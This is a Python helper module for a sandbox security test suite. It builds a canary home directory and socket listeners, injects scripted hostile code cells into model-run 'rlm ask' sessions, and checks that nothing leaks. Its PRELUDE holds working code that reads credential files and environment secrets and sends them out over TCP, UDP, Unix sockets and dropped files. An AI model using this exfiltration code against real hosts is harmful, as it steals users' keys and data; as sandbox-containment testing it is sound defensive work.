"""Helpers of the hostile-code suite: the arena a run is attacked in, and the evidence checks.

Every case runs the real `rlm ask` (a subprocess) on the scripted provider. The script's first
root reply is a hostile cell; the last calls `FINAL("scripted-answer-<case>")`. A case passes
only if the run still answers exactly that, and evidence gathered *outside* the worker (the
host's files, listener sockets held by this test process, the process table, the host's /proc
entry sampled while it runs) shows that the attack got nowhere. What a cell prints is kept for
the failure message only: a sandboxed cell could lie.

`RLM_SECURITY_SANDBOX` picks the `--sandbox` mode (default `process`); run the suite with
`RLM_SECURITY_SANDBOX=none` to see it catch the attacks an unsandboxed worker lets through.
`RLM_SECURITY_BASE` (default /var/tmp) is where the arena (canary HOME, inputs, drop dir) lives:
on purpose *not* under /tmp, whose private copy in the sandbox would hide it for free - the
canaries must be reachable by path so that the file-access layer (Landlock) is what is tested.

To check the layers for an ordinary user too, run the suite as one, with a Python and the
dependencies that user can read (root's pyenv under /root is not), e.g.
`setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=<a dir of theirs>
PYTHONPATH=<the checkout> <venv>/bin/python -m pytest -p no:cacheprovider tests/security`.

The arena holds no real secret: every secret is a fresh uuid the test scans for afterwards.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import selectors
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from conftest import RLM_COMMAND

SANDBOX = os.environ.get("RLM_SECURITY_SANDBOX", "process")
BASE = os.environ.get("RLM_SECURITY_BASE", "/var/tmp")
CELL_TIMEOUT = os.environ.get("RLM_SECURITY_CELL_TIMEOUT", "20")
GiB = 1 << 30


# The variables of rlm's environment that hold a secret: no cell may learn their values.
ENV_SECRETS = ("RLM_CANARY_SECRET", "OPENAI_API_KEY", "ANTHROPIC_API_KEY")


def repl(code: str) -> str:
    return f"```repl\n{code}\n```\n"


def answer_of(case: str) -> str:
    return f"scripted-answer-{case}"


def new_mark() -> str:
    """15 characters: fits a process's comm (prctl PR_SET_NAME) whole."""
    return "rlmsec" + uuid.uuid4().hex[:9]


# ----------------------------------------------------------------------------------------------
# What every hostile cell starts with: the targets (paths, ports; never a secret's value), and
# `grab` / `exfiltrate`, which try every way out at once for whatever the cell managed to read.
# ----------------------------------------------------------------------------------------------

PRELUDE = r"""
import os, sys, json, socket, hashlib, time, signal, errno
T = json.loads({targets!r})
LOOT = []
def note(*parts):
    print(*parts, flush=True)
def attempt(label, fn, *args, **kwargs):
    try:
        value = fn(*args, **kwargs)
        note('ATTACK-OK', label, repr(value)[:300])
        return value
    except BaseException as exc:
        note('blocked', label, type(exc).__name__, str(exc)[:200])
        return None
def digest(data):
    return hashlib.sha256(data if isinstance(data, bytes) else str(data).encode('utf-8', 'surrogateescape')).hexdigest()
def grab(label, data):
    if data is None:
        return
    if not isinstance(data, bytes):
        data = str(data).encode('utf-8', 'surrogateescape')
    LOOT.append(label.encode() + b': sha256=' + digest(data).encode() + b' ' + data[:20000])
def _send_tcp(host, data, family):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect((host, T['tcp_port']))
        s.sendall(data)
    finally:
        s.close()
def _send_udp(host, data, family):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.sendto(data[:60000], (host, T['udp_port']))
    finally:
        s.close()
def _send_unix(address, data):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(address)
        s.sendall(data)
    finally:
        s.close()
def _append(path, data):
    with open(path, 'ab') as f:
        f.write(data + b'\n')
def exfiltrate():
    if not LOOT:
        note('nothing to exfiltrate')
        return
    data = b'\n'.join(LOOT)
    note('LOOT', data[:8000])
    for path in (T['drop_file'], T['tmp_drop'], os.path.join(T['home'], 'loot.txt')):
        attempt('exfil file ' + path, _append, path, data)
    for host, fam in (('127.0.0.1', socket.AF_INET), ('::1', socket.AF_INET6), (T['host_ip'], socket.AF_INET)):
        if host:
            attempt('exfil tcp ' + host, _send_tcp, host, data, fam)
            attempt('exfil udp ' + host, _send_udp, host, data, fam)
    attempt('exfil unix', _send_unix, T['unix_path'], data)
    attempt('exfil abstract', _send_unix, '\0' + T['abstract_name'], data)
def pids():
    return sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
def read(path, limit=1 << 20):
    with open(path, 'rb') as f:
        return f.read(limit)
def host_pids():
    # The rlm host of this run: its command line names this run's script. (Never another run's.)
    found = []
    for pid in pids():
        try:
            if T['script'].encode() in read('/proc/%d/cmdline' % pid) and pid != os.getpid():
                found.append(pid)
        except OSError:
            pass
    ppid = os.getppid()
    if ppid > 1 and ppid not in found:
        found.insert(0, ppid)
    return found
"""


def prelude(targets: dict[str, Any]) -> str:
    return PRELUDE.format(targets=json.dumps(targets))


# ----------------------------------------------------------------------------------------------
# Evidence: listeners, file snapshots, the process table.
# ----------------------------------------------------------------------------------------------


class Listener:
    """TCP (every address, v4 and v6) and UDP on one port each, a path-named and an abstract
    AF_UNIX stream socket; a thread records every connection and every byte received."""

    def __init__(self, unix_path: str, abstract_name: str) -> None:
        self.events: list[str] = []
        self.data = bytearray()
        self._lock = threading.Lock()
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self.tcp_port = self._free_port(socket.SOCK_STREAM)
        self.udp_port = self._free_port(socket.SOCK_DGRAM)
        for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
            tcp = socket.socket(family, socket.SOCK_STREAM)
            tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if family == socket.AF_INET6:
                tcp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            tcp.bind((host, self.tcp_port))
            tcp.listen(64)
            self._register(tcp, "tcp-listen")
            udp = socket.socket(family, socket.SOCK_DGRAM)
            if family == socket.AF_INET6:
                udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            udp.bind((host, self.udp_port))
            self._register(udp, "udp")
        for address, label in (
            (unix_path, "unix-listen"),
            ("\0" + abstract_name, "abstract-listen"),
        ):
            unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            unix.bind(address)
            unix.listen(64)
            self._register(unix, label)
        self._thread = threading.Thread(target=self._loop, name="security-listener", daemon=True)
        self._thread.start()

    @staticmethod
    def _free_port(kind: int) -> int:
        with socket.socket(socket.AF_INET6, kind) as probe:
            probe.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            probe.bind(("::", 0))
            return int(probe.getsockname()[1])

    def _register(self, sock: socket.socket, label: str) -> None:
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ, label)

    def _record(self, event: str, data: bytes = b"") -> None:
        with self._lock:
            self.events.append(event)
            self.data += data

    def _loop(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(0.1):
                sock, label = key.fileobj, key.data
                assert isinstance(sock, socket.socket)
                try:
                    if label.endswith("-listen"):
                        conn, peer = sock.accept()
                        self._record(f"{label[:-7]} connection from {peer!r}")
                        self._register(conn, label[:-7] + "-conn")
                    elif label == "udp":
                        data, peer = sock.recvfrom(65536)
                        self._record(f"udp datagram from {peer!r}", data)
                    else:
                        data = sock.recv(65536)
                        if data:
                            self._record(f"{label} data", data)
                        else:
                            self._selector.unregister(sock)
                            sock.close()
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError as exc:
                    self._record(f"{label} error {exc}")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for key in list(self._selector.get_map().values()):
            with contextlib.suppress(OSError):
                key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()


def snapshot(*roots: Path, skip: Iterable[Path] = ()) -> dict[str, tuple[Any, ...]]:
    """Every entry under `roots` (not following links): kind, mode, size, mtime, content hash and
    extended attributes. atime is left out: reading is allowed, and updates it."""
    skipped = {str(p) for p in skip}
    state: dict[str, tuple[Any, ...]] = {}
    for root in roots:
        for path in [root, *sorted(root.rglob("*"))]:
            if str(path) in skipped or any(str(path).startswith(s + "/") for s in skipped):
                continue
            try:
                st = path.lstat()
            except FileNotFoundError:
                state[str(path)] = ("missing",)
                continue
            try:
                xattrs = tuple(
                    sorted(
                        (n, os.getxattr(path, n, follow_symlinks=False))
                        for n in os.listxattr(path, follow_symlinks=False)
                    )
                )
            except OSError:
                xattrs = ()
            content: Any = None
            if path.is_symlink():
                content = os.readlink(path)
            elif path.is_file():
                content = hashlib.sha256(path.read_bytes()).hexdigest()
            elif path.is_socket():
                content = "socket"
            state[str(path)] = (
                oct(st.st_mode),
                st.st_size,
                st.st_mtime_ns,
                st.st_uid,
                content,
                xattrs,
            )
    return state


def diff_snapshots(
    before: dict[str, tuple[Any, ...]], after: dict[str, tuple[Any, ...]]
) -> list[str]:
    changes = []
    for path in sorted(set(before) | set(after)):
        if before.get(path) != after.get(path):
            changes.append(f"{path}: {before.get(path, 'absent')} -> {after.get(path, 'absent')}")
    return changes


@dataclass
class Proc:
    pid: int
    comm: str
    state: str
    cmdline: bytes


def _read(path: str, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""


def marked_processes(mark: str) -> list[Proc]:
    """Live (not zombie) processes carrying `mark` in their argv, environment or name (comm, of
    any thread): what a cell started and tagged. Scans the real /proc, which sees into every
    PID namespace."""
    needle = mark.encode()
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        pid = int(entry)
        if pid == os.getpid():
            continue
        stat = _read(f"/proc/{pid}/stat").decode("ascii", "replace")
        state = stat.rpartition(")")[2].split()[:1]
        if not state or state[0] in ("Z", "X"):
            continue
        comm = _read(f"/proc/{pid}/comm").decode("utf-8", "replace").strip()
        cmdline = _read(f"/proc/{pid}/cmdline")
        hit = needle in cmdline or mark in comm or needle in _read(f"/proc/{pid}/environ")
        if not hit:
            with contextlib.suppress(OSError):
                hit = any(
                    mark in _read(f"/proc/{pid}/task/{tid}/comm").decode("utf-8", "replace")
                    for tid in os.listdir(f"/proc/{pid}/task")
                )
        if hit:
            found.append(Proc(pid, comm, state[0], cmdline))
    return found


def kill_marked(mark: str) -> None:
    """Teardown: kill (by pid) what a cell of this test started and tagged with its own mark."""
    for _ in range(3):
        procs = marked_processes(mark)
        if not procs:
            return
        for proc in procs:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.kill(proc.pid, signal.SIGCONT)
                os.kill(proc.pid, signal.SIGKILL)
        time.sleep(0.2)


def meminfo(field_name: str) -> int:
    for line in _read("/proc/meminfo").decode().splitlines():
        if line.startswith(field_name + ":"):
            return int(line.split()[1]) * 1024
    return 0


def status_field(pid: int, name: str) -> str | None:
    for line in _read(f"/proc/{pid}/status").decode("utf-8", "replace").splitlines():
        if line.startswith(name + ":"):
            return line.split(":", 1)[1].strip()
    return None


def kib(value: str | None) -> int:
    return int(value.split()[0]) * 1024 if value else 0


@dataclass
class Watch:
    """Sampled every few ms while a run goes, from outside: the host's /proc entry, the processes
    a cell tagged, free disk and memory."""

    host_states: set[str] = field(default_factory=set)
    tracer_pids: set[str] = field(default_factory=set)
    host_limits: set[str] = field(default_factory=set)
    host_hwm: int = 0
    marked_max: int = 0
    marked_threads_max: int = 0
    marked_rss_max: int = 0
    marked_cpu_limits: set[str] = field(default_factory=set)
    disk_used_max: int = 0
    mem_available_min: int = 1 << 62
    samples: int = 0
    disk_used_before: int = 0
    mem_available_before: int = 0
    pty_output: bytes = b""


def watch_run(
    proc: subprocess.Popen[bytes],
    mark: str,
    watch: Watch,
    disk_paths: Sequence[str],
    stop: threading.Event,
) -> None:
    pid = proc.pid
    while not stop.is_set():
        stat = _read(f"/proc/{pid}/stat").decode("ascii", "replace")
        if stat:
            watch.host_states.add(stat.rpartition(")")[2].split()[0])
            watch.tracer_pids.add(status_field(pid, "TracerPid") or "?")
            watch.host_hwm = max(watch.host_hwm, kib(status_field(pid, "VmHWM")))
            limits = _read(f"/proc/{pid}/limits").decode()
            if limits:
                watch.host_limits.add(limits)
        watch.samples += 1
        if watch.samples % 4:  # the process table is scanned every 4th sample: it costs
            if proc.poll() is not None:
                break
            stop.wait(0.02)
            continue
        procs = marked_processes(mark)
        watch.marked_max = max(watch.marked_max, len(procs))
        threads = 0
        for marked in procs:
            threads += int(status_field(marked.pid, "Threads") or 0)
            watch.marked_rss_max = max(watch.marked_rss_max, kib(status_field(marked.pid, "VmRSS")))
            for line in _read(f"/proc/{marked.pid}/limits").decode().splitlines():
                if line.startswith("Max cpu time"):
                    watch.marked_cpu_limits.add(line.split()[3])
        watch.marked_threads_max = max(watch.marked_threads_max, threads)
        for path in disk_paths:
            with contextlib.suppress(OSError):
                usage = shutil.disk_usage(path)
                watch.disk_used_max = max(watch.disk_used_max, usage.used)
        watch.mem_available_min = min(watch.mem_available_min, meminfo("MemAvailable"))
        if proc.poll() is not None:
            break
        stop.wait(0.02)


# ----------------------------------------------------------------------------------------------
# The arena
# ----------------------------------------------------------------------------------------------


@dataclass
class Outcome:
    case: str
    returncode: int | None
    stdout: bytes
    stderr: bytes
    trace: bytes
    elapsed: float
    timed_out: bool
    host_pid: int
    watch: Watch
    argv: list[str]

    @property
    def answer(self) -> str:
        return answer_of(self.case)

    def explain(self) -> str:
        err = self.stderr.decode("utf-8", "replace")
        cells = []
        for line in self.trace.decode("utf-8", "replace").splitlines():
            with contextlib.suppress(ValueError):
                event = json.loads(line)
                if event.get("type") == "cell_finished":
                    cells.append(f"cell {event.get('cell')}: {str(event.get('output'))[-3000:]}")
        return (
            f"[sandbox={SANDBOX}] rc={self.returncode} elapsed={self.elapsed:.1f}s timed_out={self.timed_out}\n"
            f"stdout={self.stdout[:300]!r}\nstderr (tail)={err[-2500:]}\n" + "\n".join(cells)
        )

    def assert_answered(self, within: float | None = None) -> None:
        """The attack must not break the run: exit 0, and stdout is exactly the scripted answer."""
        assert not self.timed_out, (
            f"the run hung (killed after {self.elapsed:.0f}s)\n{self.explain()}"
        )
        assert self.returncode == 0, f"the run failed\n{self.explain()}"
        assert self.stdout == (self.answer + "\n").encode(), (
            f"stdout is not exactly the answer\n{self.explain()}"
        )
        if within is not None:
            assert self.elapsed < within, (
                f"the run took {self.elapsed:.1f}s (limit {within}s)\n{self.explain()}"
            )


class Arena:
    """A canary HOME, inputs with secrets beside them, a drop dir, listeners; runs `rlm ask`."""

    def __init__(self, tmp_path: Path) -> None:
        self.root = Path(tempfile.mkdtemp(prefix="rlm-sec-", dir=BASE))
        self.mark = new_mark()
        self.secrets: dict[str, str] = {}
        u = lambda: uuid.uuid4().hex  # noqa: E731
        self.home = self.root / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".config" / "rlm").mkdir(parents=True)
        self.secrets["ssh key"] = "ssh-canary-" + u()
        self.ssh_key = self.home / ".ssh" / "id_rsa"
        self.ssh_key.write_text(
            f"-----BEGIN OPENSSH PRIVATE KEY-----\n{self.secrets['ssh key']}\n-----END OPENSSH PRIVATE KEY-----\n"
        )
        self.ssh_key.chmod(0o600)
        self.bashrc = self.home / ".bashrc"
        self.bashrc.write_text("# canary bashrc\nexport PS1='$ '\n")
        self.config = self.home / ".config" / "rlm" / "config.yaml"
        self.config.write_text("# canary config\noutput_limit: 20000\n")
        self.work = self.root / "work"
        self.inputs_dir = self.work / "inputs"
        self.inputs_dir.mkdir(parents=True)
        self.inputs = [self.inputs_dir / "data.txt", self.inputs_dir / "notes.log"]
        # Input content is the model's to read: it is checked only on the out-of-band channels.
        self.input_secret = "inputcanary" + u()
        self.inputs[0].write_text("the quarterly numbers are up\n" * 20 + self.input_secret + "\n")
        self.inputs[1].write_text("2024-01-01 INFO service started\n" * 20)
        self.secrets["file beside the inputs"] = "beside-canary-" + u()
        self.beside = self.inputs_dir / "beside-secret.txt"
        self.beside.write_text(self.secrets["file beside the inputs"] + "\n")
        self.secrets["name beside the inputs"] = "namecanary" + u()
        (self.inputs_dir / f"private-{self.secrets['name beside the inputs']}.key").write_text(
            "x\n"
        )
        parent_name = "parentcanary" + u()
        self.secrets["name in the inputs' parent"] = parent_name
        (self.work / f"sibling-{parent_name}.txt").write_text("y\n")
        self.secrets["host stdin"] = "stdin-canary-" + u()
        self.stdin_file = self.root / "stdin-secret.txt"
        self.stdin_file.write_text(self.secrets["host stdin"] + "\n")
        self.secrets["host /tmp file"] = "hosttmp-canary-" + u()
        self.host_tmp_secret = Path(tempfile.mkstemp(prefix="rlm-sec-secret-", dir="/tmp")[1])
        self.host_tmp_secret.write_text(self.secrets["host /tmp file"] + "\n")
        self.secrets["RLM_CANARY_SECRET"] = "envcanary" + u()
        self.secrets["OPENAI_API_KEY"] = "sk-canary-" + u()
        self.secrets["ANTHROPIC_API_KEY"] = "sk-ant-canary-" + u()
        self.drop = self.root / "drop"
        self.drop.mkdir()
        self.tmp_drop = Path("/tmp") / f"rlm-sec-loot-{self.mark}.txt"
        self.trace_path = self.root / "trace" / "run.jsonl"
        self.trace_path.parent.mkdir()
        self.script_path = self.root / "script" / "s.yaml"
        self.script_path.parent.mkdir()
        self.cache = self.root / "cache"
        sockdir = self.root / "sock"
        sockdir.mkdir()
        self.unix_path = sockdir / "listen.sock"
        self.abstract_name = f"rlm-sec-{u()}"
        self.listener = Listener(str(self.unix_path), self.abstract_name)
        self.host_ip = _primary_ip()
        self.extra_targets: dict[str, Any] = {}
        # Digests of host-only data: a cell that read it would exfiltrate its sha256 (see grab).
        self.digests: dict[str, str] = {}
        with contextlib.suppress(OSError):
            self.digests["/etc/shadow"] = hashlib.sha256(
                Path("/etc/shadow").read_bytes()[: 1 << 20]
            ).hexdigest()
        with contextlib.suppress(OSError):
            self.digests["/root listing"] = hashlib.sha256(
                json.dumps(sorted(os.listdir("/root"))).encode()
            ).hexdigest()
        import rlm_cli

        self.package_init = Path(rlm_cli.__file__)
        self.package_in_python = str(self.package_init).startswith(sys.prefix + "/")
        if not self.package_in_python:
            # An editable install lives in the user's checkout: user files, not the Python install.
            self.digests["rlm_cli source"] = hashlib.sha256(
                self.package_init.read_bytes()[: 1 << 20]
            ).hexdigest()
        self.before = self.snapshot()
        self.disk_before = shutil.disk_usage(BASE).used
        self.started_at = time.time()

    # -- targets handed to cells (paths and ports, never secrets' values) --

    def targets(self) -> dict[str, Any]:
        return {
            "mark": self.mark,
            "home": str(self.home),
            "ssh_key": str(self.ssh_key),
            "bashrc": str(self.bashrc),
            "config": str(self.config),
            "inputs": [str(p) for p in self.inputs],
            "inputs_dir": str(self.inputs_dir),
            "inputs_parent": str(self.work),
            "beside": str(self.beside),
            "host_tmp_secret": str(self.host_tmp_secret),
            "drop_file": str(self.drop / "loot.txt"),
            "drop_dir": str(self.drop),
            "tmp_drop": str(self.tmp_drop),
            "trace": str(self.trace_path),
            "script": str(self.script_path),
            "package_init": str(self.package_init),
            "package_marker": str(self.package_init.parent / "py.typed"),
            "tcp_port": self.listener.tcp_port,
            "udp_port": self.listener.udp_port,
            "host_ip": self.host_ip,
            "unix_path": str(self.unix_path),
            "abstract_name": self.abstract_name,
            "env_names": list(ENV_SECRETS),
            **self.extra_targets,
        }

    def env(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if k not in ("RLM_CONFIG",)}
        env.update(
            HOME=str(self.home),
            XDG_CONFIG_HOME=str(self.home / ".config"),
            XDG_CACHE_HOME=str(self.cache),
            RLM_CANARY_SECRET=self.secrets["RLM_CANARY_SECRET"],
            OPENAI_API_KEY=self.secrets["OPENAI_API_KEY"],
            ANTHROPIC_API_KEY=self.secrets["ANTHROPIC_API_KEY"],
        )
        return env

    def snapshot(self) -> dict[str, tuple[Any, ...]]:
        return snapshot(
            self.home,
            self.work,
            self.drop,
            self.script_path.parent,
            self.stdin_file,
            self.host_tmp_secret,
        )

    # -- running --

    def run(
        self,
        case: str,
        hostile: str,
        *,
        more: Sequence[str] = (),
        args: Sequence[str] = (),
        timeout: float = 60,
        stdin_fd: int | None = None,
        with_prelude: bool = True,
    ) -> Outcome:
        """`rlm ask` on the inputs with the script [hostile cell, *more, FINAL(answer)]."""
        cells = [
            (prelude(self.targets()) if with_prelude else "") + hostile,
            *more,
            f'FINAL("{answer_of(case)}")',
        ]
        self.script_path.write_text(
            yaml.safe_dump({"root": [repl(c) for c in cells], "sub": [{"reply": "ok"}]})
        )
        self.before = self.snapshot()
        argv = [
            *RLM_COMMAND, "ask", "--provider", "scripted", "--script", str(self.script_path),
            "--sandbox", SANDBOX, "--view", "plain", "--trace", str(self.trace_path),
            "--cell-timeout", CELL_TIMEOUT, "--no-cache", *args,
            *(str(p) for p in self.inputs), "What do the inputs say?",
        ]  # fmt: skip
        watch = Watch(
            disk_used_before=shutil.disk_usage(BASE).used,
            mem_available_before=meminfo("MemAvailable"),
        )
        stop = threading.Event()
        with open(self.stdin_file, "rb") as stdin:
            started = time.monotonic()
            proc = subprocess.Popen(
                argv,
                stdin=stdin_fd if stdin_fd is not None else stdin,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                env=self.env(),
                cwd=self.work,
                start_new_session=True,  # as under a shell's job control; and a cell's killpg hits rlm alone
            )
        cmdline = b"\0".join(a.encode() for a in argv) + b"\0"
        self.digests["host cmdline"] = hashlib.sha256(cmdline).hexdigest()
        thread = threading.Thread(
            target=watch_run, args=(proc, self.mark, watch, [BASE, "/tmp"], stop), daemon=True
        )
        thread.start()
        timed_out = False
        try:
            stdout, stderr = proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            timed_out = True
            with contextlib.suppress(ProcessLookupError):
                os.kill(proc.pid, signal.SIGCONT)
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)  # rlm is a session leader: its group, by pid
            try:  # a daemon of the cell may still hold rlm's stdout: do not wait on it forever
                stdout, stderr = proc.communicate(timeout=10)
            except subprocess.TimeoutExpired:
                stdout, stderr = b"", b"(rlm's stdout/stderr stayed open: held by another process)"
        elapsed = time.monotonic() - started
        stop.set()
        thread.join(5)
        trace = self.trace_path.read_bytes() if self.trace_path.exists() else b""
        return Outcome(
            case, proc.returncode, stdout, stderr, trace, elapsed, timed_out, proc.pid, watch, argv
        )

    # -- evidence --

    def leaks(
        self, outcome: Outcome, *, names: Iterable[str] | None = None, channels: str = "all"
    ) -> list[str]:
        """Where any secret (or a digest of host-only data) shows up: rlm's stdout and stderr, the
        trace, the listeners, any file in the arena except its own holder, new files in /tmp,
        /var/tmp and /dev/shm. `channels="outside"` leaves out what the model is shown (stdout,
        stderr, trace)."""
        wanted = {**self.secrets, **{f"sha256 of {k}": v for k, v in self.digests.items()}}
        if channels == "outside":
            wanted["input content"] = self.input_secret
        if names is not None:
            wanted = {k: v for k, v in wanted.items() if k in set(names)}
        holders = {self.ssh_key, self.beside, self.stdin_file, self.host_tmp_secret, *self.inputs}
        places: list[tuple[str, bytes]] = [("listener", bytes(self.listener.data))]
        if channels == "all":
            places += [
                ("rlm stdout", outcome.stdout),
                ("rlm stderr", outcome.stderr),
                ("trace", outcome.trace),
            ]
        for path in self.root.rglob("*"):
            if (
                path in holders
                or path == self.trace_path
                or not path.is_file()
                or path.is_symlink()
            ):
                continue
            places.append((str(path), _read(str(path), 64 << 20)))
        for top in ("/tmp", "/var/tmp", "/dev/shm"):
            for path in _recent_files(
                Path(top), self.started_at, skip={self.root, self.host_tmp_secret}
            ):
                places.append((str(path), _read(str(path), 64 << 20)))
        found = []
        for label, value in wanted.items():
            needle = value.encode()
            for where, data in places:
                if needle in data:
                    found.append(f"{label} found in {where}")
        return found

    def assert_no_leak(
        self, outcome: Outcome, names: Iterable[str] | None = None, channels: str = "all"
    ) -> None:
        leaks = self.leaks(outcome, names=names, channels=channels)
        assert not leaks, "secret leaked:\n  " + "\n  ".join(leaks) + "\n" + outcome.explain()

    def assert_untouched(self, outcome: Outcome) -> None:
        """The canary HOME, the inputs and everything beside them, the drop dir, the script: as
        before the run. And nothing the cell tried to write lands in the host's /tmp."""
        changes = diff_snapshots(self.before, self.snapshot())
        if self.tmp_drop.exists():
            changes.append(f"{self.tmp_drop} was created in the host's /tmp")
        for path in Path("/tmp").glob(f"*{self.mark}*"):
            changes.append(f"{path} was created in the host's /tmp")
        assert not changes, (
            "files outside the worker changed:\n  "
            + "\n  ".join(changes)
            + "\n"
            + outcome.explain()
        )

    def assert_no_connections(self, outcome: Outcome) -> None:
        time.sleep(0.2)  # let the listener thread record what reached it
        assert not self.listener.events, (
            f"the listeners were reached: {self.listener.events}\n{outcome.explain()}"
        )

    def assert_no_leftovers(self, outcome: Outcome, grace: float = 3.0) -> None:
        """No process the cell tagged is alive once the run is over (a little grace for the
        sandbox's teardown)."""
        deadline = time.monotonic() + grace
        left = marked_processes(self.mark)
        while left and time.monotonic() < deadline:
            time.sleep(0.1)
            left = marked_processes(self.mark)
        assert not left, (
            f"processes of the run outlived it: {[(p.pid, p.comm, p.state, p.cmdline[:80]) for p in left]}\n{outcome.explain()}"
        )

    def assert_contained(self, outcome: Outcome, within: float | None = None) -> None:
        """The checks every case makes."""
        outcome.assert_answered(within)
        self.assert_no_leak(outcome)
        self.assert_untouched(outcome)
        self.assert_no_connections(outcome)
        self.assert_no_leftovers(outcome)

    def close(self) -> None:
        kill_marked(self.mark)
        self.listener.close()
        for path in [self.tmp_drop, self.host_tmp_secret, *Path("/tmp").glob(f"*{self.mark}*")]:
            with contextlib.suppress(OSError):
                if path.is_dir():
                    shutil.rmtree(path)
                else:
                    path.unlink()
        # A cell may have chmod-ed things to 000: make the arena removable again.
        for path in [self.root, *self.root.rglob("*")]:
            with contextlib.suppress(OSError):
                if not path.is_symlink():
                    path.chmod(0o700)
        shutil.rmtree(self.root, ignore_errors=True)


def _recent_files(top: Path, since: float, skip: set[Path], depth: int = 2) -> Iterator[Path]:
    """Regular files under `top` changed since `since`, `depth` levels down, skipping big trees."""
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for entry in entries[:5000]:
        path = Path(entry.path)
        if path in skip:
            continue
        try:
            st = entry.stat(follow_symlinks=False)
        except OSError:
            continue
        if (
            entry.is_file(follow_symlinks=False)
            and st.st_mtime >= since - 1
            and st.st_size < (256 << 20)
        ):
            yield path
        elif entry.is_dir(follow_symlinks=False) and depth > 1 and st.st_mtime >= since - 1:
            yield from _recent_files(path, since, skip, depth - 1)


def _primary_ip() -> str:
    """This machine's address on its default route (no packet is sent), or "" if none."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        return str(probe.getsockname()[0])
    return ""
